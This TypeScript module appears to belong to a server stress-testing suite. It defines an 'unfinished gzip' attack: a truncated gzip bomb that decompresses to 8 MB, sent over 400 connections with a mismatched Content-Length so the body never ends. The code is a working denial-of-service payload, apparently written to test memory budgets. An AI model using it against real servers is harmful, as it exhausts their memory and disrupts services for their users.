import { gzipSync } from 'node:zlib'
import type { Attack } from '../attack.ts'
import { rawFlood } from '../flood.ts'

const UNFOLDED_BYTES = 8_000_000

/** Gzip of 8 MB in 8 KB, its last bytes left out. */
const BYTES = gzipSync(Buffer.alloc(UNFOLDED_BYTES, 0x20)).subarray(0, -16)

export const unfinishedGzip: Attack = {
  name: 'unfinished gzip',
  about: '400 bodies of 8 KB of gzip that unfold to 8 MB and never end; without a budget they held 3.2 GB.',
  run: (target, signal) =>
    rawFlood(target, signal, {
      connections: 400,
      head: `Content-Encoding: gzip\r\nContent-Length: ${BYTES.byteLength + 16}`,
      body: () => [BYTES],
    }),
}
